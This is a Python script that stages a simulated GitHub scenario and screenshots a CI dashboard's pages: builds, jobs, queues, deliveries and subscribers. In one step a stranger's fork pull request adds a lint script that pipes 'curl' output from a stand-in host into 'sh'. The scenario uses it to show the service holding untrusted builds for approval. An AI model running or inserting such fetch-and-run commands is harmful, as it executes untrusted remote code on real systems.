"""What happens in front of the camera on the dashboard: builds that pass, fail, run and wait, and who looks at them."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import os
import socket
import sys
from collections.abc import AsyncIterator, Mapping
from pathlib import Path

from aiohttp import web
from playwright.async_api import Page

from bot.cli import demo
from bot.simulator import CheckRun, Repository, Simulator
from scripts import picture_project as project
from scripts.camera import PHONE, Camera

_SECONDS = 120.0


async def tell(camera: Camera, home: Path) -> None:
    """Everything, with people who sign in and one who runs the service."""
    async with contextlib.AsyncExitStack() as stack:
        github = await stack.enter_async_context(Simulator(folder=home / "github"))
        receiver = await stack.enter_async_context(_receiver())
        variables = _variables(github, home, receiver=receiver)
        url = variables["BUILDHOOK_PUBLIC_URL"]
        github.app.callback_urls = [f"{url}/login/callback"]
        await stack.enter_async_context(demo.serving(variables, home))
        await _command(variables, "engines", "test", "local")
        github.webhook_url = f"{url}/webhook"
        await camera.shoot("sign-in", f"{url}/login", is_stranger=True)
        parcels = await github.create_repository("octo/parcels", files=project.MAIN)
        github.create_user("lena")
        github.set_permission(parcels, "lena", "write")
        await camera.sign_in(f"{url}/login/start", lambda asked: github.sign_in("mona", asked))
        flaky = await _history(github, parcels)
        red = await _red(github, parcels)
        await _ended(camera, github, parcels, url=url, red=red, flaky=flaky)
        soaks = await _going_on(camera, github, parcels, url=url)
        await _service(camera, url=url)
        # A job outlives its service: it has to be ended.
        for build in soaks:
            await _command(variables, "builds", "cancel", build.rpartition("/")[2])
        for head in soaks.values():
            await github.wait_for_check("octo/carrier-sim", head, conclusion="cancelled")


def _variables(github: Simulator, home: Path, *, receiver: str) -> dict[str, str]:
    policy = home / "policy.toml"
    policy.write_text(
        f"[access]\noperators = [{github.create_user('mona').id}]\n"
        + "".join(
            f'[subscribers.{name}]\nurl = "{receiver}/{name}"\nsecret_env = "HOOK_SECRET"\n'
            f"allow_private = true\nallow_http = true\nevents = {events}\n"
            for name, events in (("chat", '["build.finished"]'), ("warehouse", '["build.started", "build.finished"]'))
        )
    )
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    return demo.environment(github, home) | {
        "BUILDHOOK_ACCESS": "github",
        "BUILDHOOK_PUBLIC_URL": f"http://localhost:{port}",
        "BUILDHOOK_PORT": str(port),
        "BUILDHOOK_MAX_JOBS": "4",
        "BUILDHOOK_POLICY_FILE": str(policy),
        "HOOK_SECRET": "whsec_" + base64.b64encode(os.urandom(32)).decode(),
    }


@contextlib.asynccontextmanager
async def _receiver() -> AsyncIterator[str]:
    """Somebody who hears of builds at `/chat`, and somebody who fails at `/warehouse`."""

    async def hear(request: web.Request) -> web.Response:
        return web.Response(status=503 if request.path == "/warehouse" else 204)

    app = web.Application()
    app.router.add_post("/{name}", hear)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    await runner.cleanup()


async def _command(variables: Mapping[str, str], *arguments: str) -> None:
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "bot", *arguments, env=variables, stdout=asyncio.subprocess.DEVNULL
    )
    if await process.wait() != 0:
        raise AssertionError(f"`buildhook {' '.join(arguments)}` ended with {process.returncode}")


async def _history(github: Simulator, parcels: Repository) -> CheckRun:
    """What was pushed to main before, one of it with a test that fails once; gives the job where it did."""
    for message, author, pace in project.HISTORY:
        head = await github.push(parcels, "main", {"ci/pace": f"{pace}\n"}, message, author=author)
        await github.wait_for_check(parcels, head, conclusion="success", timeout_seconds=_SECONDS)
    files = {"ci/carrier": "slow\n", "ci/pace": "1.3\n"}
    head = await github.push(parcels, "main", files, "Follow parcels across the border", author="lena")
    await github.wait_for_check(parcels, head, conclusion="failure", timeout_seconds=_SECONDS)
    flaky = await github.wait_for_check(parcels, head, "buildhook / Test on 3.13", conclusion="failure")
    github.rerequest_check_run(parcels, flaky.id, sender="lena")
    await github.wait_for_check(parcels, head, conclusion="success", timeout_seconds=_SECONDS)
    files = {"ci/carrier": "fast\n", "ci/pace": "1.0\n"}
    head = await github.push(parcels, "main", files, "Ask the carrier again after a second", author="lena")
    await github.wait_for_check(parcels, head, conclusion="success", timeout_seconds=_SECONDS)
    return flaky


async def _red(github: Simulator, parcels: Repository) -> dict[str, str]:
    """A pull request that fails, beside one that passes; gives the addresses of the red build's jobs."""
    await github.commit(
        parcels, "label-qr", {"parcels/qr.py": '"""Labels as QR codes."""\n'}, "Print labels as QR codes"
    )
    green = await github.open_pull_request(parcels, "label-qr", author="lena")
    await github.commit(parcels, "price-2027", project.DEARER, "Raise the price of large parcels")
    pull = await github.open_pull_request(parcels, "price-2027", author="mona")
    await github.wait_for_check(parcels, green.head_sha, conclusion="success", timeout_seconds=_SECONDS)
    await github.wait_for_check(parcels, pull.head_sha, conclusion="failure", timeout_seconds=_SECONDS)
    return {run.name: run.details_url or "" for run in github.check_runs(parcels, pull.head_sha)}


async def _ended(
    camera: Camera, github: Simulator, parcels: Repository, *, url: str, red: Mapping[str, str], flaky: CheckRun
) -> None:
    """The pages of what has ended."""
    build, job = red["buildhook"], red["buildhook / Test on 3.13"]
    for name, page, most in (("build", build, 1000), ("job", job, 1700)):
        await camera.shoot(name, page, most=most, scale=1.5)
        await camera.shoot(f"{name}-dark", page, scheme="dark", most=1000)
        await camera.shoot(f"{name}-phone", page, width=PHONE, most=1000)
    await camera.shoot("log-search", job, before=_search, most=900)
    await camera.shoot("keys", job, before=_press_help, most=700)
    await camera.shoot("tests", f"{job}/tests", most=900)
    await camera.shoot("test-history", await camera.find(f"{flaky.details_url}", "a[href*='/tests/']"), most=1030)
    await camera.shoot("repository", f"{url}/repos/octo/parcels", most=1500)
    await camera.shoot("artifacts", f"{url}/repos/octo/parcels/artifacts", most=800)


async def _going_on(camera: Camera, github: Simulator, parcels: Repository, *, url: str) -> Mapping[str, str]:
    """What runs and what waits, and why; gives the addresses of builds that do not end by themselves, and of what."""
    soak = await github.create_repository("octo/carrier-sim", files=project.SOAK)
    worse = {"README.md": "# carrier-sim\n\nWorse.\n"}
    heads = [await github.push(soak, "main", worse, "Let every tenth answer be late")]
    fork = await github.fork(parcels, "stranger")
    files = {"ci/lint.sh": "curl -s https://elsewhere.example/lint | sh\n"}
    await github.commit(fork, "faster-lint", files, "Make the linter faster")
    asked = await github.open_pull_request(parcels, "faster-lint", from_fork=fork, author="stranger")
    waits = await github.wait_for_check(parcels, asked.head_sha, conclusion="action_required")
    await camera.shoot("build-waits", waits.details_url or "", most=1100)
    wrong = {"README.md": "# carrier-sim\n\nBad.\n"}
    heads.append(await github.push(soak, "main", wrong, "Let one answer in fifty be wrong"))
    await github.push(parcels, "main", {"ci/pace": "1.1\n"}, "Sort the history of a parcel", author="lena")
    await asyncio.sleep(3)
    await camera.shoot("home", f"{url}/", most=1300, scale=1.5)
    await camera.shoot("home-dark", f"{url}/", scheme="dark", most=1000)
    await camera.shoot("home-phone", f"{url}/", width=PHONE, most=1000)
    await camera.shoot("queue", f"{url}/queue", most=900)
    await camera.shoot("engines", f"{url}/engines", most=900)
    github.press_action(waits, "approve", sender="lena")
    await github.hooks.settle()
    github.comment(asked, "/cancel", author="mona")
    await github.wait_for_check(parcels, asked.head_sha, conclusion="cancelled")
    # The one that waits comes first: else it begins when the other one ends.
    runs = [(run, head) for head in reversed(heads) for run in github.check_runs(soak, head) if run.name == "buildhook"]
    return {run.details_url or "": head for run, head in runs}


async def _service(camera: Camera, *, url: str) -> None:
    """The pages of what came in and went out, and of the service itself."""
    await camera.shoot("deliveries", f"{url}/deliveries", most=900)
    await camera.shoot("delivery", await camera.find(f"{url}/deliveries", "a.row-title:has-text('pull_request')"))
    await camera.shoot("explain", f"{url}/explain?q=octo/parcels%232", most=1000)
    await camera.shoot("subscribers", f"{url}/subscribers", most=800)
    for name in ("budget", "audit", "account"):
        await camera.shoot(name, f"{url}/{name}", most=900)


async def set_up(camera: Camera, home: Path) -> None:
    """The page of a service that has no App yet."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith("BUILDHOOK_")}
    folder = home / "new"
    folder.mkdir()
    variables = kept | {"BUILDHOOK_DATA_DIR": str(folder / "data"), "BUILDHOOK_PORT": "0"}
    async with demo.serving(variables, folder) as told:
        await camera.shoot("set-up", told["setup"], is_stranger=True, most=1500)


async def _search(page: Page) -> None:
    await page.fill("#q", "price")
    await page.press("#q", "Enter")
    await page.wait_for_function("document.querySelector('#hits').textContent != ''")
    await page.wait_for_timeout(500)


async def _press_help(page: Page) -> None:
    await page.keyboard.press("?")
    await page.wait_for_selector("#keys[open]")
